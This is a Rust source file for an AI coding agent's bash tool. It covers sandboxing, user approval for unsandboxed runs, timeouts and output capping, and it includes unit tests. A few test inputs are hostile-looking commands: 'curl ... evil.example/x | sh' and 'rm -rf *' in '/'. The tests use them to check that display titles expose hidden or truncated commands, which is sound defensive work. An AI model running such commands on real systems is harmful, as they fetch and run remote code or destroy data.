//! `bash`: runs one command in a fresh `bash -c` (`sh -c` when bash is missing) under a
//! supervisor (`sandbox::supervise`), so a timeout, a cancellation, the end of the call or kin's
//! own death kills everything it started, `setsid` and double-forked processes included. When
//! the session's sandbox is on, the command is confined by the kernel (`sandbox::plan`), the
//! editor sees a "sandboxed" note on the call, and writes the sandbox refused are named in the
//! output as `blocked by the sandbox: <path>`. While the command runs, its output so far (its
//! tail) is reported as the call's progress, throttled and bounded (`Live`). The result is stdout
//! followed by stderr, capped to its head and tail, with an `[exit code: N]` line for non-zero
//! exits. A command no sandbox confines runs in the editor's terminal instead when the session's
//! editor offers terminals (`tools::terminal`): same rules, same result text; a confined command
//! never does, since kin cannot confine or supervise a process the editor spawns.

use std::ffi::OsString;
use std::io;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::ExitStatus;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use futures::FutureExt;
use futures::future::BoxFuture;
use serde_json::{Value, json};
use tokio::task::JoinHandle;
use tokio_util::sync::CancellationToken;

use super::args::{call_cwd, invalid_args, optional_str, optional_u64, required_str};
use super::capture::{Capture, Limits, render, snapshot, spawn_reader};
use super::paths;
use super::terminal::{self, Rules, TerminalCommand, Terminals};
use super::{Access, Tool, ToolContext, ToolError, ToolOutput};
use crate::sandbox::supervise::{self, Program, Supervised};
use crate::sandbox::{self, Confined, Plan, SessionSandbox};

const DEFAULT_TIMEOUT_MS: u64 = 120_000;
const MAX_TIMEOUT_MS: u64 = 600_000;
/// Output longer than `LIMITS.total()` keeps only its first 15 000 and last 15 000 bytes.
const LIMITS: Limits = Limits { head: 15_000, tail: 15_000 };
/// How long the output pipes may stay open after the shell exited (background jobs holding
/// them) before the rest of the command is killed, and again after a kill before reading is
/// abandoned.
const PIPE_GRACE: Duration = Duration::from_millis(500);
/// How long the supervisor may take to kill and reap what is left of a command.
const FINISH_LIMIT: Duration = Duration::from_secs(2);

/// `bash`: one shell command per call, in the session's sandbox when it has one.
#[derive(Debug, Clone, Default)]
pub struct BashTool {
    sandbox: Option<Arc<SessionSandbox>>,
    /// The session's workspace (what `workspace-write` may write, and where `.git` is looked for).
    workspace: Option<PathBuf>,
    /// The editor's terminals, when it offers them: a command no sandbox confines runs there.
    terminals: Option<Arc<dyn Terminals>>,
}

impl BashTool {
    /// The tool of a session in `workspace` whose commands follow `sandbox`.
    pub fn with_sandbox(sandbox: Arc<SessionSandbox>, workspace: Option<PathBuf>) -> Self {
        BashTool { sandbox: Some(sandbox), workspace, terminals: None }
    }

    /// The same tool running unconfined commands in the editor's `terminals` (when given).
    pub fn with_terminals(mut self, terminals: Option<Arc<dyn Terminals>>) -> Self {
        self.terminals = terminals;
        self
    }

    /// True when a call with these arguments would run confined by the kernel: no escalation,
    /// and the session's sandbox in force for its workspace.
    fn confines(&self, arguments: &Value) -> bool {
        arguments["sandbox"] != "off" && self.sandbox_in_force()
    }

    /// The session's sandbox is in force for its workspace.
    fn sandbox_in_force(&self) -> bool {
        self.sandbox.as_ref().is_some_and(|s| s.in_force(self.workspace.as_deref()))
    }
}

struct BashRequest {
    command: String,
    timeout_ms: u64,
    workdir: Option<String>,
    /// `sandbox: "off"`: the model asks to run this command outside the sandbox.
    unsandboxed: bool,
}

impl BashRequest {
    fn parse(args: &Value) -> Result<Self, ToolError> {
        let command = required_str(args, "command", "bash")?;
        if command.trim().is_empty() {
            return Err(invalid_args("bash", "`command` is empty; pass the shell command to run"));
        }
        let timeout_ms = optional_u64(args, "timeoutMs", "bash")?
            .filter(|ms| *ms > 0)
            .unwrap_or(DEFAULT_TIMEOUT_MS)
            .min(MAX_TIMEOUT_MS);
        let unsandboxed = match optional_str(args, "sandbox", "bash")?.as_deref() {
            None => false,
            Some("off") => true,
            Some(other) => {
                return Err(invalid_args(
                    "bash",
                    format!("`sandbox` takes only \"off\" (to ask to run outside the sandbox), not {other:?}"),
                ));
            }
        };
        Ok(BashRequest { command, timeout_ms, workdir: optional_str(args, "workdir", "bash")?, unsandboxed })
    }
}

impl Tool for BashTool {
    fn name(&self) -> &str {
        "bash"
    }

    fn access(&self, arguments: &Value) -> Access {
        let command = arguments["command"].as_str().unwrap_or_default().to_string();
        let workdir = arguments["workdir"].as_str().filter(|w| !w.trim().is_empty()).map(PathBuf::from);
        if self.confines(arguments) {
            Access::ExecuteSandboxed { command, workdir }
        } else {
            Access::Execute { command, workdir }
        }
    }

    /// A call out of the sandbox in force is asked about each time: an "always" for bash given
    /// before the sandbox was on (or for another escalation) does not let it leave unasked.
    fn remembered_as(&self, arguments: &Value) -> Option<String> {
        let escapes = arguments["sandbox"] == "off" && self.sandbox_in_force();
        (!escapes).then(|| self.name().to_string())
    }

    fn title(&self, arguments: &Value) -> String {
        let workdir = arguments["workdir"].as_str().filter(|w| !w.trim().is_empty());
        let mut title = title(arguments["command"].as_str().unwrap_or_default(), workdir);
        if arguments["sandbox"] == "off" {
            let reason = arguments["description"].as_str().filter(|d| !d.trim().is_empty()).unwrap_or("none given");
            title.push_str(&format!(" outside the sandbox (reason: {})", one_line(reason)));
        }
        title
    }

    fn guidance(&self) -> Option<&'static str> {
        Some(
            "run builds, tests, git and other commands; each call is a fresh shell, so pass \
             `workdir` instead of `cd`, and give a short `description`.",
        )
    }

    fn check(&self, arguments: &Value) -> Result<(), ToolError> {
        BashRequest::parse(arguments).map(drop)
    }

    fn description(&self) -> String {
        let mut text = "Execute a bash command (`bash -c`) and return its output: stdout, then stderr. Each call \
         runs in a fresh shell: no state (cwd, variables, functions) persists between calls, so \
         pass `workdir` instead of using `cd`. Non-zero exits are reported as a final \
         `[exit code: N]` line; check it. The command is killed after `timeoutMs` (default \
         120000, max 600000) together with every process it started, and processes left \
         running in the background are stopped when the command finishes. stdin is not \
         connected, so use non-interactive flags (e.g. `-y`, `--no-pager`). Output longer than \
         30000 bytes keeps only its first and last 15000 bytes. Prefer the read, write, edit, \
         glob and grep tools over cat, sed, find and grep for working with files."
            .to_string();
        if let Some(sandbox) = &self.sandbox {
            let about = sandbox.describe(self.workspace.as_deref());
            if !about.is_empty() {
                text.push(' ');
                text.push_str(&about);
            }
        }
        text
    }

    fn parameters(&self) -> Value {
        let mut schema = self.base_parameters();
        if self.sandbox.as_ref().is_some_and(|s| s.policy().is_sandboxed()) {
            schema["properties"]["sandbox"] = json!({
                "type": "string",
                "enum": ["off"],
                "description": "Only to run this command outside the sandbox (it needs to write elsewhere or reach the network, e.g. after \"blocked by the sandbox\"): the user is asked first, and sees `description` as the reason. Omit it otherwise."
            });
        }
        schema
    }

    fn execute(&self, arguments: Value, ctx: ToolContext) -> BoxFuture<'static, Result<ToolOutput, ToolError>> {
        self.run(arguments, ctx)
    }
}

impl BashTool {
    fn base_parameters(&self) -> Value {
        json!({
            "type": "object",
            "properties": {
                "command": {
                    "type": "string",
                    "description": "The bash command to execute."
                },
                "description": {
                    "type": "string",
                    "description": "Clear, concise description of what this command does in active voice, 5-10 words (shown in the UI). Examples: \"ls\" → \"List files in current directory\"; \"git status\" → \"Show working tree status\"; \"npm install\" → \"Install package dependencies\"."
                },
                "timeoutMs": {
                    "type": "number",
                    "description": "Timeout in milliseconds (default 120000, max 600000). The command and everything it started are killed on expiry."
                },
                "workdir": {
                    "type": "string",
                    "description": "Working directory for this command. Defaults to the session workspace; a relative path is resolved against it."
                }
            },
            "required": ["command", "description"]
        })
    }

    fn run(&self, arguments: Value, ctx: ToolContext) -> BoxFuture<'static, Result<ToolOutput, ToolError>> {
        let sandbox = self.sandbox.clone();
        let terminals = self.terminals.clone();
        async move {
            let request = BashRequest::parse(&arguments)?;
            let workspace = call_cwd(&ctx);
            let dir = working_dir(&workspace, request.workdir.as_deref()).await?;
            if request.unsandboxed && !ctx.allow_unsandboxed {
                return Err(ToolError::new(
                    "SANDBOX_ESCALATION_REFUSED",
                    "`sandbox: \"off\"` needs the user's approval through the permission gate, which this call \
                     did not get; run the command without it (inside the sandbox)",
                ));
            }
            let plan = match &sandbox {
                Some(_) if request.unsandboxed => Plan::Unconfined {
                    notice: Some("the user allowed this command to run outside the sandbox".to_string()),
                },
                Some(sandbox) => {
                    let workspace = (!workspace.as_os_str().is_empty()).then_some(workspace.as_path());
                    sandbox::plan(sandbox.policy(), sandbox.settings(), workspace)
                        .map_err(|e| ToolError::new("SANDBOX_FAILED", format!("{e}; the command did not run")))?
                }
                None => Plan::Unconfined { notice: None },
            };
            // Under a session sandbox, a command runs unconfined only when the gate admitted it as
            // such (asked, or by the mode), never on the strength of a sandbox: not when the
            // kernel cannot enforce it, nor when it was switched off after the gate admitted this
            // call as a sandboxed one (without a question).
            if let (Some(_), Plan::Unconfined { notice }) = (&sandbox, &plan)
                && !ctx.allow_unsandboxed
            {
                let why = notice.as_deref().unwrap_or(
                    "the session's sandbox was switched off after this command was allowed as a sandboxed one",
                );
                return Err(ToolError::new(
                    "SANDBOX_UNAVAILABLE",
                    format!(
                        "{why}; the command did not run (called again, it is asked about as an unsandboxed command)"
                    ),
                ));
            }
            let note = match &plan {
                Plan::Confined(confined) => Some(confined.note()),
                Plan::Unconfined { notice } => notice.as_ref().map(|n| format!("not sandboxed: {n}")),
            };
            let confined = match &plan {
                Plan::Confined(confined) => Some(confined),
                Plan::Unconfined { .. } => None,
            };
            let text = match (confined, terminals) {
                // The editor's terminal: for a command no sandbox confines (kin cannot confine a
                // process the editor spawns). It shows the note with the terminal.
                (None, Some(terminals)) => {
                    let command = TerminalCommand {
                        session_id: ctx.session_id.clone(),
                        call_id: ctx.call_id.clone(),
                        program: shell()?,
                        args: vec!["-c".to_string(), request.command.clone()],
                        cwd: (!dir.as_os_str().is_empty()).then(|| std::path::absolute(&dir).unwrap_or(dir.clone())),
                        output_limit: LIMITS.total() as u64,
                        note: note.clone(),
                    };
                    terminal::run(terminals, command, &ctx.cancel, rules(request.timeout_ms)).await?
                }
                (confined, _) => {
                    if let (Some(note), Some(progress)) = (&note, &ctx.progress) {
                        progress.report(note.clone());
                    }
                    let live = ctx.progress.clone().map(|progress| Live::new(progress, note.clone()));
                    run_command(&request, &dir, &ctx.cancel, confined, live).await?
                }
            };
            let output = ToolOutput::text(text);
            Ok(match note {
                Some(note) => output.with_meta(json!({"sandbox": note})),
                None => output,
            })
        }
        .boxed()
    }
}

/// The most characters of a command a title shows.
const TITLE_CHARS: usize = 200;

/// What a call runs, on one line: ``Run `<command>` ``, with ` in <workdir>` when the call names
/// one. A line break shows as `⏎` and other control characters escaped, so nothing hides on a
/// second line; a command longer than `TITLE_CHARS` is cut with a note that says so, how much is
/// left out and whether that part holds more commands. The whole command and the directory it
/// runs in are in the permission request's content and raw input.
fn title(command: &str, workdir: Option<&str>) -> String {
    let line = one_line(command.trim());
    let mut title = match line.char_indices().nth(TITLE_CHARS) {
        None => format!("Run `{line}`"),
        Some((cut, _)) => format!("Run `{}…`", &line[..cut]),
    };
    if let Some(dir) = workdir {
        title.push_str(&format!(" in {}", one_line(dir)));
    }
    if let Some((cut, _)) = line.char_indices().nth(TITLE_CHARS) {
        let rest = &line[cut..];
        let more = ["⏎", ";", "&", "|", "`", "$("].iter().any(|separator| rest.contains(separator));
        let among = if more { ", more commands among them" } else { "" };
        title.push_str(&format!(" (shortened: {} more characters{among})", rest.chars().count()));
    }
    title
}

/// `text` with each line break as `⏎` and every other control character escaped (`\t`, `\u{1b}`).
fn one_line(text: &str) -> String {
    let mut line = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' => line.push('⏎'),
            c if c.is_control() || super::reorders_or_hides(c) => line.extend(c.escape_default()),
            c => line.push(c),
        }
    }
    line
}

/// The directory to run in: `workdir` resolved against the session directory, or the session
/// directory itself; it must exist. Empty means "inherit the process directory".
async fn working_dir(cwd: &Path, workdir: Option<&str>) -> Result<PathBuf, ToolError> {
    let dir = match workdir {
        Some(raw) => paths::resolve(cwd, raw),
        None => cwd.to_path_buf(),
    };
    if dir.as_os_str().is_empty() {
        return Ok(dir);
    }
    match tokio::fs::metadata(&dir).await {
        Ok(meta) if meta.is_dir() => Ok(dir),
        Ok(_) => Err(ToolError::new(
            "INVALID_WORKDIR",
            format!("workdir {} is not a directory; pass an existing directory", dir.display()),
        )),
        Err(e) => Err(ToolError::new(
            "INVALID_WORKDIR",
            format!(
                "workdir {} cannot be used ({e}); pass an existing directory (relative paths \
                 resolve against the session workspace)",
                dir.display()
            ),
        )),
    }
}

/// A command stopped by cancellation while it ran: dsh's text (dsh-design.md §4.1), which the
/// model reads as `Error: command aborted`.
fn command_aborted() -> ToolError {
    ToolError::named("AbortError", "ABORTED", "command aborted")
}

/// How the wait for the shell ended.
enum Ending {
    Exited(io::Result<ExitStatus>),
    TimedOut,
    Aborted,
}

async fn run_command(
    request: &BashRequest,
    dir: &Path,
    cancel: &CancellationToken,
    confined: Option<&Confined>,
    live: Option<Live>,
) -> Result<String, ToolError> {
    let env: Vec<(OsString, OsString)> = confined.map(Confined::env).unwrap_or_default();
    let shell = shell()?;
    let program = Program::new(&shell, &["-c", &request.command], &env).map_err(|e| spawn_error(&shell, &e))?;
    let mut command = supervise::spawn(program, dir, confined.map(|c| c.confinement.clone()), supervise::Input::Null)
        .map_err(|e| spawn_error(&shell, &e))?;
    let result = wait_command(request, dir, cancel, confined, &mut command, live).await;
    command.finish(FINISH_LIMIT).await;
    result
}

async fn wait_command(
    request: &BashRequest,
    dir: &Path,
    cancel: &CancellationToken,
    confined: Option<&Confined>,
    command: &mut Supervised,
    mut live: Option<Live>,
) -> Result<String, ToolError> {
    let stdout = Arc::new(Mutex::new(Capture::new(LIMITS)));
    let stderr = Arc::new(Mutex::new(Capture::new(LIMITS)));
    let mut readers = [
        spawn_reader(command.stdout.take(), Arc::clone(&stdout)),
        spawn_reader(command.stderr.take(), Arc::clone(&stderr)),
    ];
    let ending = {
        // Polled to the end, never dropped and restarted: it reads the supervisor's status.
        let exited = command.exited();
        tokio::pin!(exited);
        let timeout = tokio::time::sleep(Duration::from_millis(request.timeout_ms));
        tokio::pin!(timeout);
        let mut ticks = tokio::time::interval_at(tokio::time::Instant::now() + LIVE_EVERY, LIVE_EVERY);
        ticks.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Skip);
        loop {
            tokio::select! {
                status = &mut exited => break Ending::Exited(status),
                () = &mut timeout => break Ending::TimedOut,
                () = cancel.cancelled() => break Ending::Aborted,
                _ = ticks.tick(), if live.as_ref().is_some_and(Live::open) => {
                    if let Some(live) = live.as_mut() {
                        live.show(&stdout, &stderr);
                    }
                }
            }
        }
    };
    match ending {
        Ending::Aborted => {
            command.kill();
            readers.iter().for_each(JoinHandle::abort);
            Err(command_aborted())
        }
        Ending::TimedOut => {
            command.kill();
            drain(&mut readers, command).await;
            let output = render(&[&snapshot(&stdout), &snapshot(&stderr)], LIMITS);
            Err(timed_out(request.timeout_ms, &output))
        }
        Ending::Exited(status) => {
            let status = status.map_err(|e| match confined {
                Some(_) if e.to_string().contains("sandbox") => {
                    ToolError::new("SANDBOX_FAILED", format!("{e}; the command did not run"))
                }
                _ => ToolError::new("SPAWN_FAILED", format!("cannot run the command: {e}")),
            })?;
            drain(&mut readers, command).await;
            let errors = snapshot(&stderr);
            let mut output = render(&[&snapshot(&stdout), &errors], LIMITS);
            if let Some(confined) = confined {
                let blocked = sandbox::blocked(&errors.render(), dir, &confined.layout, confined.policy.network());
                for what in &blocked {
                    if !output.is_empty() && !output.ends_with('\n') {
                        output.push('\n');
                    }
                    output.push_str(&format!("blocked by the sandbox: {what}\n"));
                }
                if !blocked.is_empty() {
                    let needs = match blocked.iter().any(|b| matches!(b, sandbox::Blocked::Network(_))) {
                        true => "must write there or reach the network",
                        false => "must write there",
                    };
                    output.push_str(&format!(
                        "(if the command {needs}, call bash again with `sandbox: \"off\"`: the user is asked)\n"
                    ));
                }
            }
            Ok(with_exit_code(output, exit_code(status)))
        }
    }
}

/// The result rules the editor's terminal path shares with the local one.
fn rules(timeout_ms: u64) -> Rules {
    Rules { limits: LIMITS, timeout_ms, timed_out, aborted: command_aborted, with_exit_code }
}

/// `bash` from `PATH`, else `sh`.
fn shell() -> Result<PathBuf, ToolError> {
    let path = std::env::var_os("PATH").unwrap_or_else(|| OsString::from("/usr/bin:/bin"));
    let find = |name: &str| {
        std::env::split_paths(&path).map(|dir| dir.join(name)).find(|candidate| {
            std::fs::metadata(candidate).is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
        })
    };
    find("bash")
        .or_else(|| find("sh"))
        .ok_or_else(|| ToolError::new("SPAWN_FAILED", "cannot start bash or sh: neither is on PATH".to_string()))
}

fn spawn_error(program: &Path, error: &io::Error) -> ToolError {
    ToolError::new("SPAWN_FAILED", format!("cannot start {}: {error}", program.display()))
}

/// The error of a command killed at its timeout, with its output (head and tail, as `LIMITS`
/// keeps them, so its message is bounded: about 30 KB).
fn timed_out(timeout_ms: u64, output: &str) -> ToolError {
    let mut message = format!(
        "command timed out after {timeout_ms} ms and was killed (raise timeoutMs, up to \
         {MAX_TIMEOUT_MS}, if it needs longer)"
    );
    if !output.is_empty() {
        message.push_str("\nOutput before the timeout:\n");
        message.push_str(output);
    }
    ToolError::bounded("TIMEOUT", message)
}

/// The shell's exit code; a signal death counts as 128 + signal, as in shells.
fn exit_code(status: ExitStatus) -> i32 {
    status.code().unwrap_or_else(|| 128 + status.signal().unwrap_or(0))
}

/// The result text: the output as is for exit 0 (`(no output)` when empty), otherwise followed
/// by an `[exit code: N]` line.
fn with_exit_code(output: String, code: i32) -> String {
    match (code, output.is_empty()) {
        (0, true) => "(no output)".to_string(),
        (0, false) => output,
        (_, true) => format!("[exit code: {code}]"),
        (_, false) => format!("{output}\n[exit code: {code}]"),
    }
}

// ---------------------------------------------------------------------------------------------
// live output

/// How often the editor is shown a running command's output (when it grew).
const LIVE_EVERY: Duration = Duration::from_millis(500);
/// The most output one live report shows: the last 4 KiB. With the call's cap on progress
/// reports (`MAX_PROGRESS_REPORTS`), at most about 480 KiB of a command's output is logged for
/// the editor; after that the result shows it.
const LIVE_TAIL: usize = 4096;
/// How the call's last live report ends.
const LIVE_STOPS: &str = "[live output stops here; the call's result shows the output]";

/// A running command's output as the editor sees it: every `LIVE_EVERY`, when there is new
/// output, a progress report of its last `LIVE_TAIL` bytes (stdout, then stderr, as the result
/// has them), after the sandbox note; as many as the call's progress takes.
struct Live {
    progress: super::Progress,
    note: Option<String>,
    /// Output bytes seen at the last report.
    shown: usize,
}

impl Live {
    fn new(progress: super::Progress, note: Option<String>) -> Self {
        Live { progress, note, shown: 0 }
    }

    /// True while more reports may be sent.
    fn open(&self) -> bool {
        self.progress.has_room()
    }

    /// Reports the output so far, if it grew since the last report.
    fn show(&mut self, stdout: &Mutex<Capture>, stderr: &Mutex<Capture>) {
        let (out, err) = (snapshot(stdout), snapshot(stderr));
        let total = out.total() + err.total();
        if total == self.shown || !self.open() {
            return;
        }
        self.shown = total;
        let output = render(&[&out, &err], Limits { head: 0, tail: LIVE_TAIL });
        let mut text = match &self.note {
            Some(note) => format!("{note}\n"),
            None => String::new(),
        };
        text.push_str(output.trim_start_matches('\n'));
        self.progress.report_ending(text, LIVE_STOPS);
    }
}

// ---------------------------------------------------------------------------------------------
// output pipes

/// Waits for the readers to reach end of file. Pipes still open after the grace period are
/// held by background processes: the rest of the command is killed; pipes held even then are
/// abandoned.
async fn drain(readers: &mut [JoinHandle<()>], command: &mut Supervised) {
    if wait_readers(readers, PIPE_GRACE).await {
        return;
    }
    command.kill();
    if !wait_readers(readers, PIPE_GRACE).await {
        readers.iter().for_each(JoinHandle::abort);
    }
}

/// True when every reader finished within `limit`.
async fn wait_readers(readers: &mut [JoinHandle<()>], limit: Duration) -> bool {
    let all = async {
        for reader in readers.iter_mut() {
            if !reader.is_finished() {
                let _ = reader.await;
            }
        }
    };
    tokio::time::timeout(limit, all).await.is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Instant;

    fn ctx(cwd: &Path, cancel: CancellationToken) -> ToolContext {
        ToolContext::detached(Some(cwd.to_path_buf()), cancel)
    }

    #[test]
    fn live_output_is_its_tail_only_when_it_grew_and_stops_after_the_cap() {
        let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
        let mut live = Live::new(super::super::Progress::new("c", tx), Some("sandboxed: read-only".into()));
        let (stdout, stderr) = (Mutex::new(Capture::new(LIMITS)), Mutex::new(Capture::new(LIMITS)));
        live.show(&stdout, &stderr);
        assert!(rx.try_recv().is_err(), "no output yet: no report");
        stdout.lock().unwrap().push(b"hello\n");
        live.show(&stdout, &stderr);
        assert_eq!(rx.try_recv().unwrap(), ("c".to_string(), "sandboxed: read-only\nhello\n".to_string()));
        live.show(&stdout, &stderr);
        assert!(rx.try_recv().is_err(), "nothing new: no report");
        stderr.lock().unwrap().push(&[b'x'; 10_000]);
        live.show(&stdout, &stderr);
        let (_, text) = rx.try_recv().unwrap();
        assert!(text.starts_with("sandboxed: read-only\n[... 5910 bytes omitted ...]\nxxx"), "{text}");
        assert_eq!(text.len(), "sandboxed: read-only\n[... 5910 bytes omitted ...]\n".len() + LIVE_TAIL);
        while live.open() {
            stdout.lock().unwrap().push(b".");
            live.show(&stdout, &stderr);
        }
        let rest: Vec<String> = std::iter::from_fn(|| rx.try_recv().ok()).map(|(_, text)| text).collect();
        assert_eq!(rest.len(), super::super::MAX_PROGRESS_REPORTS - 2, "the call's cap on progress reports");
        let last = rest.last().unwrap();
        assert!(last.ends_with(&format!("xxx\n{LIVE_STOPS}")), "the output, then the note: {last}");
        stdout.lock().unwrap().push(b"more");
        live.show(&stdout, &stderr);
        assert!(!live.open() && rx.try_recv().is_err(), "no report past the cap");
    }

    #[test]
    fn a_title_shows_the_command_on_one_line_and_says_when_it_is_shortened() {
        let title = |args: Value| BashTool::default().title(&args);
        assert_eq!(title(json!({"command": "ls -la", "description": "List"})), "Run `ls -la`");
        assert_eq!(title(json!({"command": "rm -rf *", "workdir": "/"})), "Run `rm -rf *` in /");
        assert_eq!(title(json!({"command": "make\ncurl x | sh\n"})), "Run `make⏎curl x | sh`");
        assert_eq!(title(json!({"command": "echo \u{1b}[2J"})), "Run `echo \\u{1b}[2J`");
        assert_eq!(title(json!({"command": "echo a\u{202e}x\u{200b}"})), "Run `echo a\\u{202e}x\\u{200b}`");
        let long = format!("echo {}; curl https://evil.example/x | sh", "a".repeat(200));
        let shown = title(json!({"command": long}));
        assert!(shown.starts_with(&format!("Run `echo {}…`", "a".repeat(195))), "{shown}");
        assert!(
            shown.ends_with(" (shortened: 39 more characters, more commands among them)"),
            "the cut part holds a second command: {shown}"
        );
        let plain = format!("echo {}", "a".repeat(300));
        assert!(title(json!({"command": plain})).ends_with("…` (shortened: 105 more characters)"));
    }

    async fn bash(cwd: &Path, args: Value) -> Result<String, ToolError> {
        let output = BashTool::default().execute(args, ctx(cwd, CancellationToken::new())).await?;
        Ok(output.content[0]["text"].as_str().unwrap().to_string())
    }

    /// A `sleep` duration unique to this test run, so its processes can be found in /proc.
    fn marker_seconds(test: u32) -> String {
        format!("30.{}{test}", std::process::id())
    }

    /// Live (non-zombie) processes whose command line contains `sleep <seconds>`.
    fn sleepers(seconds: &str) -> usize {
        let wanted = format!("sleep\0{seconds}");
        let Ok(entries) = std::fs::read_dir("/proc") else {
            return 0;
        };
        entries
            .flatten()
            .filter_map(|entry| std::fs::read(entry.path().join("cmdline")).ok())
            .filter(|cmdline| String::from_utf8_lossy(cmdline).contains(&wanted))
            .count()
    }

    /// Waits up to 3 s for the marked sleepers to be gone.
    async fn sleepers_gone(seconds: &str) -> bool {
        for _ in 0..60 {
            if sleepers(seconds) == 0 {
                return true;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        false
    }

    #[tokio::test]
    async fn echo_output_is_returned_verbatim() {
        let dir = tempfile::tempdir().unwrap();
        let out = bash(dir.path(), json!({"command": "echo SNAPSHOT_OK", "description": "Run echo SNAPSHOT_OK"}))
            .await
            .unwrap();
        assert_eq!(out, "SNAPSHOT_OK\n");
    }

    #[tokio::test]
    async fn stderr_follows_stdout_and_exit_codes_are_reported() {
        let dir = tempfile::tempdir().unwrap();
        let out = bash(dir.path(), json!({"command": "echo err >&2; echo out; exit 3"})).await.unwrap();
        assert_eq!(out, "out\nerr\n\n[exit code: 3]");
        let out = bash(dir.path(), json!({"command": "exit 1"})).await.unwrap();
        assert_eq!(out, "[exit code: 1]");
        let out = bash(dir.path(), json!({"command": "true"})).await.unwrap();
        assert_eq!(out, "(no output)");
    }

    #[tokio::test]
    async fn runs_in_the_workdir() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("sub")).unwrap();
        let out = bash(dir.path(), json!({"command": "pwd", "workdir": "sub"})).await.unwrap();
        assert!(out.trim_end().ends_with("/sub"), "{out}");
        let err = bash(dir.path(), json!({"command": "pwd", "workdir": "missing"})).await.unwrap_err();
        assert_eq!(err.code, "INVALID_WORKDIR");
        assert!(err.message.contains("missing"), "{}", err.message);
    }

    #[tokio::test]
    async fn timeout_kills_the_whole_group() {
        let dir = tempfile::tempdir().unwrap();
        let seconds = marker_seconds(1);
        let command = format!("echo started; sleep {seconds} & sleep {seconds}; wait");
        let started = Instant::now();
        let err = bash(dir.path(), json!({"command": command, "timeoutMs": 300})).await.unwrap_err();
        assert!(started.elapsed() < Duration::from_secs(5), "took {:?}", started.elapsed());
        assert_eq!(err.code, "TIMEOUT");
        assert!(err.message.starts_with("command timed out after 300 ms"), "{}", err.message);
        assert!(err.message.contains("started"), "{}", err.message);
        assert!(sleepers_gone(&seconds).await, "a sleep survived the timeout");
    }

    #[tokio::test]
    async fn a_timed_out_command_keeps_the_head_and_tail_of_its_output() {
        let dir = tempfile::tempdir().unwrap();
        let command = "echo FIRST; seq 1 200000; echo LAST-BEFORE-THE-HANG; sleep 30";
        let err = bash(dir.path(), json!({"command": command, "timeoutMs": 1500})).await.unwrap_err();
        assert_eq!(err.code, "TIMEOUT");
        let text = &err.message;
        assert!(text.contains("FIRST") && text.contains("LAST-BEFORE-THE-HANG"), "the tail shows where it hung");
        let printed = "FIRST\n".len()
            + (1..=200_000).map(|n: u32| n.to_string().len() + 1).sum::<usize>()
            + "LAST-BEFORE-THE-HANG\n".len();
        assert!(text.contains(&format!("[... {} bytes omitted ...]", printed - LIMITS.total())), "{}", &text[..200]);
        assert!(text.len() < LIMITS.total() + 400, "{} bytes", text.len());
    }

    #[tokio::test]
    async fn cancellation_kills_at_once() {
        let dir = tempfile::tempdir().unwrap();
        let seconds = marker_seconds(2);
        let cancel = CancellationToken::new();
        let call = BashTool::default().execute(
            json!({"command": format!("sleep {seconds} & sleep {seconds}; wait")}),
            ctx(dir.path(), cancel.clone()),
        );
        let handle = tokio::spawn(call);
        tokio::time::sleep(Duration::from_millis(200)).await;
        let started = Instant::now();
        cancel.cancel();
        let err = handle.await.unwrap().unwrap_err();
        assert!(started.elapsed() < Duration::from_secs(2), "took {:?}", started.elapsed());
        assert_eq!(err.code, "ABORTED");
        assert_eq!((err.name.as_str(), err.message.as_str()), ("AbortError", "command aborted"));
        assert!(sleepers_gone(&seconds).await, "a sleep survived the cancellation");
    }

    #[tokio::test]
    async fn background_jobs_do_not_hold_the_call_open() {
        let dir = tempfile::tempdir().unwrap();
        let seconds = marker_seconds(3);
        let started = Instant::now();
        let out = bash(dir.path(), json!({"command": format!("sleep {seconds} & echo done")})).await.unwrap();
        assert_eq!(out, "done\n");
        assert!(started.elapsed() < Duration::from_secs(5), "took {:?}", started.elapsed());
        assert!(sleepers_gone(&seconds).await, "the background sleep was left running");
    }

    #[tokio::test]
    async fn huge_output_keeps_head_and_tail() {
        let dir = tempfile::tempdir().unwrap();
        let out = bash(dir.path(), json!({"command": "seq 1 30000"})).await.unwrap();
        assert!(out.starts_with("1\n2\n3\n"), "{}", &out[..20]);
        assert!(out.ends_with("29999\n30000\n"), "{}", &out[out.len() - 20..]);
        assert!(out.contains(" bytes omitted ...]"));
        assert!(out.len() <= LIMITS.total() + 64, "{} bytes", out.len());
    }
}
